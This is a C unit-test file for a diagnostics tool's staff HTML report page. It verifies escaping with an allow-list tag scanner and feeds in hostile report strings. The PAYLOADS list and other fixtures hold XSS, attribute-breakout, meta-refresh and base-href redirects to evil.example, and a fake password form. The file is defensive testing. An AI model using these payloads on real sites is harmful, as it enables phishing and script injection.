/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The staff page (report/review/html.c and the views): escaping, and hostile
 * reports checked by a small tag scanner: whatever a report says, the page
 * has only the elements, attributes, class names and style values that the
 * renderer itself writes.
 */
#include <ctype.h>
#include <regex.h>

#include "review-reports.h"

static char *
render(const struct cbd_doc *d)
{
	char *html = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&html, &len);

	assert_non_null(out);
	cbd_doc_render_html(d, out, 80, 60);
	fclose(out);
	return html;
}

/* ---- the scanner ----------------------------------------------------------- */

static const char *const TAGS[] = {"!DOCTYPE", "html", "head",  "meta",  "title", "style",
				   "body",     "main", "header", "h1",   "h2",    "h3",
				   "p",        "b",    "small", "div",   "span",  "section",
				   "table",    "tr",   "th",    "td",    "ul",    "li",
				   "code",     "footer", NULL};
static const char *const ATTRS[] = {"lang",  "charset", "name", "content",    "http-equiv",
				    "class", "style",   "role", "aria-label", NULL};
static const char *const CLASSES[] = {
	"banner", "b-pass", "b-warn", "b-fail", "b-error", "cards",  "card",   "s-pass",
	"s-warn", "s-fail", "s-error", "s-skip", "badge",  "t-pass", "t-warn", "t-fail",
	"t-error", "t-skip", "t-info", "finding", "next",  "esc",    "sum",    "panel",
	"bar",    "fill",   "mark",   "kb",     "kr",      "k",      "k-ok",   "k-bad",
	"k-chat", "k-un",   "legend", "tree",   NULL};
/* the only style values the renderer writes: numbers and its own colours */
static const char STYLE_RE[] = "^(width:[0-9.]+%;background:#(c0262d|b7791f|1e7f4f)|"
			       "left:-?[0-9.]+%|margin-left:[0-9]+px)$";

static bool
listed(const char *const *list, const char *s, size_t len)
{
	for (; *list; list++)
		if (strlen(*list) == len && strncasecmp(*list, s, len) == 0)
			return true;
	return false;
}

struct scan {
	int elements;
	int meta_csp;
	char csp[512];
	char problem[512];
};

/* Record the first problem: @what and the @len bytes of @s it is about. */
static bool
problem(struct scan *sc, const char *what, const char *s, size_t len)
{
	if (!sc->problem[0])
		snprintf(sc->problem, sizeof(sc->problem), "%s: %.*s", what,
			 (int)(len > 200 ? 200 : len), s);
	return false;
}

static bool
check_value(struct scan *sc, const char *an, size_t anl, const char *v, size_t vl)
{
	if (anl == 5 && strncmp(an, "class", 5) == 0) {
		for (size_t i = 0; i < vl;) {
			size_t j = i;

			while (j < vl && v[j] != ' ')
				j++;
			if (j > i && !listed(CLASSES, v + i, j - i))
				return problem(sc, "class outside the allow-list", v + i, j - i);
			i = j + 1;
		}
	} else if (anl == 5 && strncmp(an, "style", 5) == 0) {
		regex_t re;
		char buf[256];
		bool ok;

		snprintf(buf, sizeof(buf), "%.*s", (int)vl, v);
		assert_int_equal(regcomp(&re, STYLE_RE, REG_EXTENDED | REG_NOSUB), 0);
		ok = regexec(&re, buf, 0, NULL, 0) == 0;
		regfree(&re);
		if (!ok)
			return problem(sc, "style outside the allow-list", v, vl);
	} else if (anl == 10 && strncmp(an, "http-equiv", 10) == 0) {
		if (vl != 23 || strncmp(v, "Content-Security-Policy", 23) != 0)
			return problem(sc, "http-equiv other than the CSP", v, vl);
		sc->meta_csp++;
	}
	return true;
}

/* Walk @html: every tag, its attributes (double-quoted values only) and the
 * raw text of <style> and <title>. */
static bool
scan_html(const char *html, struct scan *sc)
{
	const char *p = html;

	*sc = (struct scan){0};
	while ((p = strchr(p, '<'))) {
		const char *name;
		size_t nl;
		bool closing = false;

		p++;
		if (*p == '/') {
			closing = true;
			p++;
		}
		name = p;
		while (isalnum((unsigned char)*p) || *p == '!' || *p == '-')
			p++;
		nl = (size_t)(p - name);
		if (!nl || !listed(TAGS, name, nl))
			return problem(sc, "element outside the allow-list", name, nl + 10);
		if (closing) {
			if (*p != '>')
				return problem(sc, "bad closing tag", name, nl + 10);
			p++;
			continue;
		}
		sc->elements++;
		for (;;) {
			const char *an, *v;
			size_t anl;

			while (*p == ' ')
				p++;
			if (*p == '>')
				break;
			if (!*p)
				return problem(sc, "unterminated tag", name, nl);
			an = p;
			while (*p && *p != '=' && *p != ' ' && *p != '>')
				p++;
			anl = (size_t)(p - an);
			if (strncmp(name, "!DOCTYPE", 8) == 0 && anl == 4 && strncmp(an, "html", 4) == 0)
				continue;
			if (!listed(ATTRS, an, anl))
				return problem(sc, "attribute outside the allow-list", an, anl);
			if (*p != '=')
				return problem(sc, "attribute without a value", an, anl);
			if (*++p != '"')
				return problem(sc, "attribute value not double-quoted", an, anl + 20);
			v = ++p;
			p = strchr(p, '"');
			if (!p)
				return problem(sc, "unterminated attribute", an, anl);
			if (memchr(v, '<', (size_t)(p - v)))
				return problem(sc, "'<' inside an attribute", v, (size_t)(p - v));
			if (!check_value(sc, an, anl, v, (size_t)(p - v)))
				return false;
			if (anl == 7 && strncmp(an, "content", 7) == 0 && strstr(v, "default-src") &&
			    (size_t)(p - v) < sizeof(sc->csp)) {
				snprintf(sc->csp, sizeof(sc->csp), "%.*s", (int)(p - v), v);
			}
			p++;
		}
		p++;
		/* raw text elements: skip to their end tag */
		if ((nl == 5 && strncasecmp(name, "style", 5) == 0) ||
		    (nl == 5 && strncasecmp(name, "title", 5) == 0)) {
			const char *end = strstr(p, nl == 5 && name[0] == 's' ? "</style>" : "</title>");

			if (!end)
				return problem(sc, "unterminated", name, nl);
			if (memchr(p, '<', (size_t)(end - p)))
				return problem(sc, "markup inside", name, nl);
			p = end;
		}
	}
	return true;
}

static void
assert_clean(const char *html)
{
	struct scan sc;

	if (!scan_html(html, &sc))
		fail_msg("%s", sc.problem);
	assert_true(sc.elements > 20);
	assert_int_equal(sc.meta_csp, 1);
	assert_non_null(strstr(sc.csp, "default-src 'none'"));
	assert_non_null(strstr(sc.csp, "form-action 'none'"));
	assert_non_null(strstr(sc.csp, "base-uri 'none'"));
}

/* The scanner itself finds what it is for. */
static void
test_scanner_catches_injection(void **state)
{
	static const char *const bad[] = {
		"<html><body><a href=\"x\">y</a></body></html>",
		"<html><body><div class=\"badge t-\"><meta http-equiv=\"refresh\" "
		"content=\"0\">\"></div></body></html>",
		"<html><body><div class=\"badge evil\"></div></body></html>",
		"<html><body><div style=\"position:fixed\"></div></body></html>",
		"<html><body><div onclick=\"x\"></div></body></html>",
		"<html><body><div class=x></div></body></html>",
		"<html><body><form></form></body></html>",
	};
	struct scan sc;

	for (size_t i = 0; i < CBD_ARRAY_SIZE(bad); i++)
		if (scan_html(bad[i], &sc))
			fail_msg("the scanner missed: %s", bad[i]);
	assert_true(scan_html("<html><body><div class=\"panel\">&lt;a&gt;</div></body></html>", &sc));
}

/* ---- escaping ---------------------------------------------------------------- */

static void
test_html_escape_function(void **state)
{
	char *s = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&s, &len);

	cbd_html_escape(out, "a<b>&\"c'd");
	cbd_html_escape(out, NULL);
	fclose(out);
	assert_string_equal(s, "a&lt;b&gt;&amp;&quot;c&#39;d");
	free(s);
}

static const char *const HOSTILE = "<script>alert(1)</script>\"'&<img src=x onerror=y>";

static void
set_hostile(cJSON *o, const char *key)
{
	cJSON_ReplaceItemInObject(o, key, cJSON_CreateString(HOSTILE));
}

static void
test_html_escapes_every_text_field(void **state)
{
	cJSON *r = report("S1", "Bobba", "2026-11-20T10:00:00Z", 52, "fail", "fail");
	cJSON *dev = cJSON_GetObjectItem(r, "device"), *p, *f;
	struct cbd_doc *d;
	char *html;
	static const char *const dev_keys[] = {"serial", "asset_tag", "vendor", "model",
					       "board", "sku", "firmware_version", "hwid"};

	for (size_t i = 0; i < CBD_ARRAY_SIZE(dev_keys); i++)
		set_hostile(dev, dev_keys[i]);
	set_hostile(r, "ticket");
	set_hostile(r, "technician");
	cJSON_ArrayForEach(p, cJSON_GetObjectItem(r, "probes"))
	{
		set_hostile(p, "summary");
		cJSON_ArrayForEach(f, cJSON_GetObjectItem(p, "findings"))
		{
			set_hostile(f, "message");
			set_hostile(f, "action");
		}
	}
	set_hostile(cJSON_GetArrayItem(cbd_json_member(cbd_json_member(cbd_json_member(cbd_json_member(r, "probes"),
									   "battery"),
							      "data"),
						  "batteries"),
				       0),
		    "serial");
	d = doc_of(r);
	html = render(d);
	assert_null(strstr(html, "<script"));
	assert_null(strstr(html, "<img"));
	assert_null(strstr(html, HOSTILE));
	assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&amp;"));
	/* it is still the page: verdict banner, cards, battery bar */
	assert_non_null(strstr(html, "class=\"banner b-fail\""));
	assert_non_null(strstr(html, "Needs repair"));
	assert_non_null(strstr(html, "replace 60%"));
	assert_null(strstr(html, "@import"));
	assert_clean(html);
	free(html);
	cbd_doc_free(d);
}

/* A probe name is markup-free by the schema: such a report never reaches the page. */
static void
test_probe_names_are_checked(void **state)
{
	cJSON *r = report("S1", "Bobba", "2026-11-20T10:00:00Z", 52, "fail", "fail");
	struct cbd_doc d = {.root = r};
	_cleanup_free_ char *err = NULL;

	cJSON_AddItemToObject(cJSON_GetObjectItem(r, "probes"), HOSTILE,
			      cJSON_Duplicate(cbd_json_member(cbd_json_member(r, "probes"), "keyboard"), true));
	assert_int_equal(cbd_doc_validate(&d, &err), -EINVAL);
	assert_non_null(strstr(err, "/probes/"));
	cJSON_Delete(r);
}

/* ---- hostile reports ----------------------------------------------------------- */

static const char *const PAYLOADS[] = {
	"\"",
	"'",
	"pass\" onmouseover=\"x",
	"\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
	"'><meta http-equiv='refresh' content='0;url=https://evil.example/'>",
	"<a href=\"https://evil.example/\">All checked parts work — click to sign in</a>",
	"<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
	"\"><div style=\"position:fixed;inset:0;background:#1e7f4f;z-index:9\">All checked parts "
	"work</div>",
	"pass badge t-pass",
	"</style><style>*{display:none}</style>",
	"</title><base href=\"https://evil.example/\">",
	"<!-- ",
	"<svg/onload=alert(1)>",
	"javascript:alert(1)",
	"&lt;already escaped&gt; &amp; &#x3c;",
};

/* Every string in @o, recursively, becomes @payload. */
static void
poison(cJSON *o, const char *payload)
{
	cJSON *it;

	cJSON_ArrayForEach(it, o)
	{
		if (cJSON_IsString(it))
			cJSON_SetValuestring(it, payload);
		else if (cJSON_IsObject(it) || cJSON_IsArray(it))
			poison(it, payload);
	}
}

static struct cbd_doc *
fixture(const char *name)
{
	const char *src = getenv("CBDIAG_SRCDIR");
	_cleanup_free_ char *path = NULL, *err = NULL;
	struct cbd_doc *d = NULL;

	if (!src)
		skip();
	path = cbd_strdupf("%s/tests/fixtures/reports/good/%s", src, name);
	if (cbd_doc_load_valid(path, &d, &err) < 0)
		fail_msg("%s: %s", path, err);
	return d;
}

static void
poison_probe_fields(cJSON *root, const char *payload)
{
	cJSON *p, *f;

	cJSON_ArrayForEach(p, cJSON_GetObjectItem(root, "probes"))
	{
		cJSON_SetValuestring(cJSON_GetObjectItem(p, "summary"), payload);
		cJSON_ArrayForEach(f, cJSON_GetObjectItem(p, "findings"))
		{
			cJSON_SetValuestring(cJSON_GetObjectItem(f, "message"), payload);
			if (cJSON_IsString(cJSON_GetObjectItem(f, "action")))
				cJSON_SetValuestring(cJSON_GetObjectItem(f, "action"), payload);
		}
		poison(cJSON_GetObjectItem(p, "data"), payload);
	}
}

/* The views the fixture has no data for: a keyboard light swept, a wireless probe with
 * every list filled, a lid probe with both steps run and a touch probe with every test, so
 * that every string they print meets the payloads. */
static const char EXTRA_PROBES[] =
	"{\"kbd_backlight\": {\"status\": \"pass\", \"summary\": \"s\", \"duration_ms\": 1,"
	" \"findings\": [], \"data\": {\"leds\": [{\"name\": \"n\", \"max_brightness\": 100,"
	" \"brightness\": 30, \"sweep\": \"pass\", \"sweep_reason\": \"r\", \"sweep_levels\":"
	" [{\"set\": 10, \"actual\": 10}], \"restored\": true, \"restored_to\": 30,"
	" \"intern_saw_change\": \"yes\"}]}},"
	" \"wireless\": {\"status\": \"pass\", \"summary\": \"s\", \"duration_ms\": 1,"
	" \"findings\": [], \"data\": {\"wifi\": [{\"interface\": \"w\", \"phy\": \"p\","
	" \"driver\": \"d\", \"bus\": \"b\", \"operstate\": \"o\"}], \"bluetooth\":"
	" [{\"controller\": \"c\", \"driver\": \"d\", \"bus\": \"b\"}], \"rfkill\":"
	" [{\"name\": \"n\", \"type\": \"t\", \"soft_blocked\": false, \"hard_blocked\": true}],"
	" \"hardware\": [{\"kind\": \"wifi\", \"where\": \"w\", \"id\": \"i\", \"driver\": \"d\"}],"
	" \"firmware_failures\": [\"f\"], \"scan\": {\"done\": false, \"reason\": \"r\"}}},"
	" \"lid\": {\"status\": \"fail\", \"summary\": \"s\", \"duration_ms\": 1,"
	" \"findings\": [], \"data\": {\"lid_switches\": [{\"name\": \"n\", \"event\": \"e\","
	" \"phys\": \"p\", \"state\": \"open\"}], \"power_buttons\": [{\"name\": \"n\","
	" \"event\": \"e\", \"phys\": \"p\"}], \"lid\": \"open\", \"lid_test\": {\"ended\": \"e\","
	" \"closed\": true, \"opened\": true, \"panel\": {\"connector\": \"c\","
	" \"status_before\": \"b\", \"status_after\": \"a\", \"edid_same\": false,"
	" \"reprobe\": \"r\"}, \"link_errors\": [\"l\"], \"result\": \"fail\"},"
	" \"power_test\": {\"ended\": \"e\", \"pressed\": true, \"released\": false,"
	" \"result\": \"warn\"}}},"
	" \"touch\": {\"status\": \"fail\", \"summary\": \"s\", \"duration_ms\": 1,"
	" \"findings\": [], \"data\": {\"touchpads\": [{\"name\": \"n\", \"event\": \"e\","
	" \"phys\": \"p\", \"bus\": \"b\", \"kind\": \"k\", \"slots\": 5, \"width_mm\": 100,"
	" \"height_mm\": 60}], \"touchscreens\": [{\"name\": \"n\", \"event\": \"e\","
	" \"phys\": \"p\", \"bus\": \"b\", \"slots\": 10, \"width_mm\": 256, \"height_mm\": 144,"
	" \"stylus\": true}], \"touchpad_kind\": \"k\", \"touchscreen\": true, \"stylus\": true,"
	" \"trace_test\": {\"ended\": \"e\", \"result\": \"fail\", \"map\": [\"#.\"],"
	" \"dead_cells\": [\"d\"]}, \"click_test\": {\"ended\": \"e\", \"result\": \"warn\"},"
	" \"screen_test\": {\"ended\": \"e\", \"result\": \"fail\", \"map\": [\"#.\"],"
	" \"dead_cells\": [\"d\"]}, \"stylus_test\": {\"ended\": \"e\", \"result\": \"warn\"}}}}";

static void
add_extra_probes(cJSON *root)
{
	cJSON *extra = cJSON_Parse(EXTRA_PROBES), *p;

	assert_non_null(extra);
	while ((p = extra->child)) {
		cJSON_DetachItemViaPointer(extra, p);
		cJSON_AddItemToObject(cJSON_GetObjectItem(root, "probes"), p->string, p);
	}
	cJSON_Delete(extra);
}

static void
test_hostile_reports(void **state)
{
	for (size_t i = 0; i < CBD_ARRAY_SIZE(PAYLOADS); i++) {
		struct cbd_doc *d = fixture("octopus-before-repair.json");
		cJSON *root = d->root, *dev = cJSON_GetObjectItem(root, "device"), *it;
		_cleanup_free_ char *err = NULL;
		char *html;

		cJSON_ArrayForEach(it, dev) if (cJSON_IsString(it) && !streq(it->string, "form_factor"))
			cJSON_SetValuestring(it, PAYLOADS[i]);
		cJSON_ReplaceItemInObject(root, "ticket", cJSON_CreateString(PAYLOADS[i]));
		cJSON_ReplaceItemInObject(root, "technician", cJSON_CreateString(PAYLOADS[i]));
		add_extra_probes(root);
		poison_probe_fields(root, PAYLOADS[i]);
		/* and what identity could not read (device.findings) */
		{
			cJSON *df = cJSON_AddArrayToObject(dev, "findings");
			cJSON *nf = cJSON_CreateObject();

			cJSON_AddStringToObject(nf, "code", "device.no_hwid");
			cJSON_AddStringToObject(nf, "severity", "warn");
			cJSON_AddStringToObject(nf, "message", PAYLOADS[i]);
			cJSON_AddStringToObject(nf, "action", PAYLOADS[i]);
			cJSON_AddFalseToObject(nf, "escalate");
			cJSON_AddItemToArray(df, nf);
			/* and the report's own (kept elsewhere) */
			nf = cJSON_Duplicate(nf, true);
			cJSON_ReplaceItemInObject(nf, "code", cJSON_CreateString("report.dir_full"));
			cJSON_AddItemToArray(cJSON_AddArrayToObject(root, "findings"), nf);
		}
		if (cbd_doc_validate(d, &err) < 0)
			fail_msg("payload %zu makes the report invalid: %s", i, err);
		html = render(d);
		{
			struct scan sc;

			if (!scan_html(html, &sc))
				fail_msg("payload %zu (%s): %s", i, PAYLOADS[i], sc.problem);
		}
		assert_clean(html);
		assert_non_null(strstr(html, "<code>device.no_hwid</code>"));
		assert_non_null(strstr(html, "<code>report.dir_full</code>"));
		/* the verdict is the report's, whatever the strings say */
		assert_non_null(strstr(html, "<div class=\"banner b-fail\">Needs repair"));
		assert_null(strstr(html, "\"banner b-pass"));
		free(html);
		cbd_doc_free(d);
	}
}

/* The port test in the form the probe writes it (an object with ports[],
 * each with a free-form "result"): unknown words are shown, grey. */
static void
test_port_test_words(void **state)
{
	struct cbd_doc *d = fixture("octopus-before-repair.json");
	cJSON *usb = (cJSON *)cbd_json_member(cbd_json_member(cbd_json_member(d->root, "probes"), "usb"), "data");
	cJSON *pt = cJSON_Parse("{\"ports\": [{\"label\": \"left\", \"result\": \"pass\"},"
				"{\"label\": \"right\", \"result\": \"fail\\\" style=\\\"x\"},"
				"{\"label\": \"back\", \"result\": \"sideways\"},"
				"{\"label\": \"left USB-C port\", \"result\": \"skip\","
				" \"reason\": \"skipped by the intern\","
				" \"kernel_name\": \"usb1-port1/usb2-port1<b>\"}]}");
	char *html;

	cJSON_ReplaceItemInObject(usb, "port_test", pt);
	html = render(d);
	assert_non_null(strstr(html, "<th>left</th><td><span class=\"badge t-pass\">pass</span>"));
	assert_non_null(strstr(html, "<span class=\"badge t-skip\">fail&quot; style=&quot;x</span>"));
	assert_non_null(strstr(html, "<span class=\"badge t-skip\">sideways</span>"));
	/* the physical name heads the row; the kernel's, escaped, is a staff aside */
	assert_non_null(strstr(html, "<th>left USB-C port</th><td><span class=\"badge t-skip\">skip"
				     "</span> skipped by the intern <small>usb1-port1/usb2-port1&lt;b&gt;"
				     "</small></td>"));
	assert_clean(html);
	free(html);
	cbd_doc_free(d);
}

/* Each good fixture renders clean. */
static void
test_fixtures_clean(void **state)
{
	static const char *const names[] = {"octopus-before-repair.json",
					    "octopus-after-repair.json", "worn-battery.json",
					    "all-skipped-vm.json"};

	for (size_t i = 0; i < CBD_ARRAY_SIZE(names); i++) {
		struct cbd_doc *d = fixture(names[i]);
		char *html = render(d);

		assert_clean(html);
		free(html);
		cbd_doc_free(d);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_scanner_catches_injection),
		cmocka_unit_test(test_html_escape_function),
		cmocka_unit_test(test_html_escapes_every_text_field),
		cmocka_unit_test(test_probe_names_are_checked),
		cmocka_unit_test(test_hostile_reports),
		cmocka_unit_test(test_port_test_words),
		cmocka_unit_test(test_fixtures_clean),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
